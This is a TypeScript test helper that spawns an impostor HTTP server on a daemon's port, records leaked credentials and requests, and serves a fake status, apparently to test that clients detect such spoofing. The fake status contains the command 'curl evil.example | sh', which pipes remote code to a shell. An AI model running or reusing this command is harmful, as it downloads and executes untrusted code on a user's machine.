import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { NOBODY, whyNoOtherUser } from './otherUser';
import { until } from './until';

/** A request as it came. */
export interface Heard {
  readonly method: string;
  readonly path: string;
  readonly authorization?: string;
  readonly body: string;
}

/** Answers every GET with what it was given last, and tells each request on stdout. */
const SCRIPT = `
const [port, answer] = process.argv.slice(1);
require('http').createServer((request, response) => {
  let body = '';
  request.on('data', (chunk) => (body += chunk));
  request.on('end', () => {
    const { method, url: path, headers: { authorization } } = request;
    console.log(JSON.stringify({ method, path, authorization, body }));
    const now = new Date().toISOString();
    response.setHeader('content-type', 'application/json');
    response.end(answer.replaceAll('NOW', now).replaceAll('"PID"', process.pid));
  });
}).listen(Number(port), '127.0.0.1', () => console.log('ready'));
setInterval(() => {}, 1000);`;

/** A process that took the port of a dispatchd and answers as it: of another user where this one is root. */
export class Impostor {
  readonly heard: Heard[] = [];
  #ready = false;

  private constructor(readonly child: ChildProcess) {
    let text = '';
    child.stdout?.setEncoding('utf8').on('data', (chunk: string) => {
      text += chunk;
      const lines = text.split('\n');
      text = lines.pop() ?? '';
      for (const line of lines) {
        if (line === 'ready') this.#ready = true;
        else this.heard.push(JSON.parse(line) as Heard);
      }
    });
  }

  /** How it differs from the dispatchd, for the title of a test. */
  static readonly kind = whyNoOtherUser() === undefined ? `uid ${NOBODY}` : 'our own user, another pid';

  /** @param answer to every request; "NOW" is the time, "PID" its own number; @param isOther whether it is of another user where that can be */
  static async listen(port: number, answer: object, isOther = true): Promise<Impostor> {
    const other = isOther && whyNoOtherUser() === undefined ? { uid: NOBODY, gid: NOBODY } : {};
    const args = ['-e', SCRIPT, String(port), JSON.stringify(answer)];
    const child = spawn(process.execPath, args, { cwd: '/', stdio: ['ignore', 'pipe', 'inherit'], ...other });
    const impostor = new Impostor(child);
    await until(() => impostor.#ready);
    return impostor;
  }

  get pid(): number {
    return this.child.pid!;
  }

  /** Who it is, as a refusal names it. */
  get inWords(): string {
    return whyNoOtherUser() === undefined ? `process ${this.pid} of user nobody` : `process ${this.pid}`;
  }

  /** What came that tells a secret or asks for something. */
  get told(): readonly Heard[] {
    return this.heard.filter(({ method, authorization }) => method !== 'GET' || authorization !== undefined);
  }

  async stop(): Promise<void> {
    if (this.child.exitCode !== null || this.child.signalCode !== null) return;
    const gone = once(this.child, 'exit');
    this.child.kill('SIGKILL');
    await gone;
  }
}

/** A status in good health that names this folder, with a session that runs and one that was interrupted. */
export function statusOf(stateDir: string, pid: number | 'PID', id = 'impostor'): object {
  const session = {
    name: 'nightly report',
    kind: 'foreground',
    command: 'true',
    createdAt: 'NOW',
    startedAt: 'NOW',
  };
  const limits = { timeoutMs: 600_000, maxExtensions: 3, extensionsUsed: 0, activityExtensionMs: 120_000 };
  return {
    status: 'ok',
    isRunning: true,
    available: true,
    config: { pollIntervalMs: 1_000 },
    health: {
      computedAt: 'NOW',
      lastPollStartedAt: 'NOW',
      lastPollCompletedAt: 'NOW',
      pollStale: false,
      readyUnassignedTasks: 0,
      availableWorkers: 4,
    },
    instance: { id, pid, stateDir, startedAt: 'NOW', version: '0.1.0' },
    sessions: [{ id: 'session-a', status: 'running', ...session, ...limits }],
    session: { id: 'session-a', command: 'curl evil.example | sh' },
  };
}
